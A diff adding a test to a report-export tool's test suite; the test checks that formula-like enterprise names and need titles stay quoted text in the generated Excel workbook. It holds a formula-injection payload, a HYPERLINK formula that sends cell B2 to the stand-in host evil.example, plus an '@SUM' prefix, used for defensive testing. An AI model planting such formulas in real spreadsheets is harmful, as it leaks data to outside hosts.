@@ -185,3 +185,19 @@ def test_an_empty_database_or_a_missing_index_is_refused_clearly_and_nothing_is_
     result = copy("report", "monthly", "--month", MONTH, "--out", tmp_path / "r", ok=False)
     assert result.exit_code == 1 and "cxy index build" in result.output
     assert copy.query("SELECT count(*) FROM report_runs") == [(0,)] and not (tmp_path / "r").exists()
+
+
+def test_names_that_look_like_formulas_stay_quoted_text_in_the_workbook(sample_db, tmp_path):
+    cli = copy_sample_db(sample_db, tmp_path)
+    enterprise = cli.query("SELECT id FROM enterprises WHERE key_enterprise ORDER BY id LIMIT 1")[0][0]
+    payload = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
+    with sqlite3.connect(cli.db) as conn:
+        conn.execute("UPDATE enterprises SET name = ? WHERE id = ?", (payload, enterprise))
+        conn.execute("UPDATE needs SET title = '@SUM(1+1)' || title WHERE enterprise_id = ?", (enterprise,))
+    cli("report", "monthly", "--month", MONTH, "--out", tmp_path / "r")
+    book = load_workbook(tmp_path / "r" / f"monthly-report-{MONTH}.xlsx")
+    risky = [c for ws in book for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
+    assert {c.value for c in risky} >= {payload}  # shown as written, not rewritten
+    assert any(c.value.startswith("@SUM") for c in risky)
+    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [(c.coordinate, c.data_type) for c in risky]
